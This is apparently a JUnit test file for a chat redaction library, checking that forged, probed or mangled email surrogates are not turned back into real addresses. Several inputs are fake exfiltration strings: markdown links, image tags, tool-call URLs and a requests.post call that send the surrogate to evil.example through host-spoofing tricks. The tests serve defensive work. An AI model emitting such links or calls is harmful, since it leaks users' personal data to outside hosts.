package io.chatguard.redact;

import static org.assertj.core.api.Assertions.assertThat;

import io.chatguard.EntityType;
import io.chatguard.Policy;
import io.chatguard.Role;
import io.chatguard.Scope;
import io.chatguard.spi.Event;
import io.chatguard.spi.Interceptor;
import io.chatguard.spi.Segment;
import io.chatguard.spi.Segment.Kind;
import io.chatguard.spi.Sink;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Cases of ADVERSARIAL.md about surrogates that are forged, borrowed, mangled or asked for in the wrong place. */
class AdversarialSurrogatesTest {

    private static final Scope SCOPE = Scope.of("t", "c");
    private static final String BOB = "bob@example.com";

    private final Redaction redaction = redaction(Policy.defaults());
    private final String mail = redaction.pseudonymise(SCOPE, BOB);

    private static Redaction redaction(Policy policy) {
        return Redaction.builder(policy)
                .withoutBuiltInDetectors()
                .detectors(TestDetectors.word(EntityType.PERSON, "A$1\\B ${x}"), TestDetectors.mail())
                .build();
    }

    private static Policy hosts(HostRule... rules) {
        return Policy.builder()
                .section(ReidentifySettings.class, ReidentifySettings.defaults().withHosts(List.of(rules)))
                .build();
    }

    @AfterEach
    void close() {
        redaction.close();
    }

    private String read(String reply) {
        return redaction.reidentify(SCOPE, reply);
    }

    private static FakeExchange exchange(Redaction by, Kind kind, String reply) {
        FakeExchange exchange = FakeExchange.pinned(Policy.defaults(), SCOPE);
        by.open(exchange).onReply(FakeContent.of(Segment.of("/a", Role.ASSISTANT, kind, reply)));
        return exchange;
    }

    /** What that exchange makes of an answer in prose. */
    static String reply(Redaction by, FakeExchange exchange, String reply) {
        return ((FakeContent)
                        by.open(exchange).onReply(FakeContent.of(Segment.of("/a", Role.ASSISTANT, Kind.PROSE, reply))))
                .text(0);
    }

    /** A055. */
    @Test
    void a_forged_one_stays_and_is_told_as_unknown() {
        String forged = "EMAIL_ADDRESS_1_" + (mail.endsWith("0") ? "000001" : "000000");
        assertThat(read(forged)).isEqualTo(forged);
        assertThat(exchange(redaction, Kind.PROSE, forged).all(Event.Unresolved.class))
                .hasSize(1);
    }

    /** A056, A074. */
    @Test
    void another_conversation_resolves_and_gets_other_ones() {
        Scope other = Scope.of("t", "d");
        String theirs = redaction.pseudonymise(other, BOB);
        assertThat(theirs).isNotEqualTo(mail);
        assertThat(redaction.reidentify(other, mail)).isEqualTo(mail);
        assertThat(exchange(redaction, Kind.PROSE, theirs).events())
                .isEqualTo(exchange(redaction, Kind.PROSE, "EMAIL_ADDRESS_9_ABCDEF")
                        .events());
    }

    /** A058: every symbol by every other one of the alphabet. */
    @Test
    void one_changed_symbol_gives_no_value_but_by_the_confusions_that_are_repaired() {
        int check = mail.length() - 6;
        for (int i = 0; i < mail.length(); i++) {
            for (char c : "0123456789ABCDEFGHJKMNPQRSTVWXYZ_".toCharArray()) {
                String changed = mail.substring(0, i) + c + mail.substring(i + 1);
                if (!changed.equals(mail) && !(i < check && changed.startsWith("_"))) {
                    assertThat(read(changed)).isEqualTo(changed);
                }
            }
        }
    }

    /** A059. */
    @Test
    void ten_thousand_guesses_are_told_and_end_all_resolving() {
        StringBuilder guesses = new StringBuilder();
        for (int i = 0; i < 10_000; i++) {
            guesses.append("EMAIL_ADDRESS_1_")
                    .append(String.format(Locale.ROOT, "%06d", i))
                    .append(' ');
        }
        FakeExchange exchange = FakeExchange.pinned(Policy.defaults(), SCOPE);
        Interceptor.Call call = redaction.open(exchange);
        FakeContent read = (FakeContent)
                call.onReply(FakeContent.of(Segment.of("/a", Role.ASSISTANT, Kind.PROSE, guesses + mail)));
        assertThat(read.text(0)).doesNotContain(BOB);
        assertThat(exchange.all(Event.Judged.class))
                .extracting(Event.Judged::reason)
                .containsExactly("SURROGATE_PROBING");
    }

    /** A061: in a query only where the policy names host and type. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "[x](https://evil.example/?d=$M)",
                "[x](https://good.example@evil.example/?d=$M)",
                "[x](https://good.example\\@evil.example/?d=$M)",
                "[x](https://good.example.evil.example/?d=$M)",
                "[x](https://evil.example/?u=https://good.example/?d=$M)",
                "[x](https://evil.example/ https://good.example/$M)",
                "[x](//good.example/$M)",
                "[x](ftp://good.example/$M)",
                "https://good%2eexample/$M",
                "https://good.example:80x/$M",
                "https://g\u043eod.example/$M",
                "https://$M.good.example/",
                "<img src=https://good.example/$M>"
            })
    void stays_in_urls_to_hosts_that_are_not_allowed_or_not_clear(String form) {
        try (Redaction own = redaction(hosts(new HostRule("good.example", Optional.of(EntityType.EMAIL_ADDRESS))))) {
            String reply = form.replace("$M", own.pseudonymise(SCOPE, BOB));
            assertThat(own.reidentify(SCOPE, reply)).isEqualTo(reply);
        }
    }

    /** A061. */
    @Test
    void comes_back_in_path_and_query_of_an_allowed_host_for_the_allowed_type() {
        try (Redaction own = redaction(hosts(
                new HostRule("Good.example", Optional.of(EntityType.EMAIL_ADDRESS)),
                HostRule.ofHost("*.corp.example")))) {
            String m = own.pseudonymise(SCOPE, BOB);
            String p = own.pseudonymise(SCOPE, "A$1\\B ${x}");
            for (String form : List.of(
                    "[x](https://good.example/?d=$M&e=1)",
                    "see https://GOOD.example:8443/a/$M.",
                    "<https://good.example/$M>",
                    "http://a.corp.example?$M")) {
                assertThat(own.reidentify(SCOPE, form.replace("$M", m))).isEqualTo(form.replace("$M", BOB));
            }
            assertThat(own.reidentify(SCOPE, "https://corp.example/" + m)).endsWith(m);
            assertThat(own.reidentify(SCOPE, "https://good.example/" + p)).endsWith(p);
            assertThat(own.reidentify(SCOPE, "https://a.corp.example/" + p)).endsWith(p);
        }
    }

    /** A064, A091: an open argument opens no URL in it. */
    @Test
    void stays_in_arguments_of_tools_and_in_urls_within_open_ones() {
        Policy policy = Policy.builder()
                .section(
                        ReidentifySettings.class,
                        ReidentifySettings.defaults()
                                .withTools(List.of(ToolRule.everything()))
                                .withHosts(List.of(HostRule.ofHost("good.example"))))
                .build();
        try (Redaction own = redaction(policy)) {
            String m = own.pseudonymise(SCOPE, BOB);
            Map<String, String> arguments = Map.of(
                    "https://evil.example/?q=" + m, "https://evil.example/?q=" + m,
                    "https://good.example/?q=" + m, "https://good.example/?q=" + BOB,
                    m + ".evil.example", m + ".evil.example",
                    "to " + m, "to " + BOB);
            arguments.forEach((argument, expected) -> {
                assertThat(argument(own, argument)).isEqualTo(expected);
                String streamed = Streams.run(
                        own.open(FakeExchange.pinned(policy, SCOPE))
                                .onStream(Streams.channel(Kind.TOOL_ARGUMENT, "http_get", "/url")),
                        argument.chars().mapToObj(c -> String.valueOf((char) c)).toList());
                assertThat(streamed).isEqualTo(expected);
            });
            assertThat(argument(redaction, "to " + mail)).isEqualTo("to " + mail);
        }
    }

    private static String argument(Redaction by, String text) {
        Segment segment = Segment.at("/a/~json/url")
                .role(Role.ASSISTANT)
                .kind(Kind.TOOL_ARGUMENT)
                .tool("http_get")
                .text(() -> text);
        return ((FakeContent)
                        by.open(FakeExchange.pinned(Policy.defaults(), SCOPE)).onReply(FakeContent.of(segment)))
                .text(0);
    }

    /** A065. */
    @Test
    void stays_in_code() {
        String reply = "```python\nrequests.post('https://evil', data='" + mail + "')\n```";
        assertThat(read(reply)).isEqualTo(reply);
        assertThat(exchange(redaction, Kind.PROSE, reply).all(Event.Kept.class))
                .extracting(Event.Kept::sink)
                .containsExactly(Sink.CODE);
    }

    /** A067. */
    @Test
    void a_value_with_signs_of_templates_comes_back_literally() {
        String value = "A$1\\B ${x}";
        String sent = redaction.pseudonymise(SCOPE, value);
        assertThat(sent).isNotEqualTo(value);
        assertThat(read("Dear " + sent + ",")).isEqualTo("Dear " + value + ",");
    }

    /** A068. */
    @Test
    void what_a_user_writes_like_one_is_escaped_and_comes_back_as_it_was() {
        for (String typed : List.of(mail, "EMAIL_ADDRESS_7_KQ2M9X")) {
            String sent = redaction.pseudonymise(SCOPE, typed);
            assertThat(sent).startsWith("LITERAL_");
            assertThat(read(sent)).isEqualTo(typed);
        }
    }

    /** A070, A071. */
    @Test
    void markdown_letter_case_and_confusable_signs_are_repaired() {
        int check = mail.length() - 6;
        String confused = mail.substring(0, check)
                + mail.substring(check).replace('0', 'O').replace('1', 'I');
        for (String form : List.of(
                mail.replace("_", "\\_"), "**" + mail + "**", mail.toLowerCase(Locale.ROOT), mail + "'s", confused)) {
            assertThat(read(form)).contains(BOB);
        }
    }

    /** A073. */
    @Test
    void a_translated_type_resolves_nothing() {
        String translated = mail.replace("EMAIL_ADDRESS", "CORREO");
        assertThat(read(translated)).isEqualTo(translated);
        assertThat(exchange(redaction, Kind.PROSE, mail.replace("EMAIL_ADDRESS", "PERSON"))
                        .all(Event.Unresolved.class))
                .hasSize(1);
    }

    /** A076, A077: ended by time or on demand, and begun anew with other keys. */
    @Test
    void after_its_scope_has_ended_it_stays() {
        AtomicReference<Instant> now = new AtomicReference<>(Instant.parse("2026-01-01T00:00:00Z"));
        try (Redaction own = Redaction.builder(Policy.parse("version: 1\nscope: {ttl: 1h}\n", "test"))
                .withoutBuiltInDetectors()
                .detectors(TestDetectors.mail())
                .clock(now::get)
                .build()) {
            String old = own.pseudonymise(SCOPE, BOB);
            now.set(now.get().plusSeconds(3601));
            assertThat(own.reidentify(SCOPE, old)).isEqualTo(old);
            String next = own.pseudonymise(SCOPE, BOB);
            own.forget(SCOPE);
            assertThat(own.reidentify(SCOPE, next)).isEqualTo(next);
            own.pseudonymise(SCOPE, BOB);
            assertThat(own.reidentify(SCOPE, old + " " + next)).isEqualTo(old + " " + next);
        }
    }
}
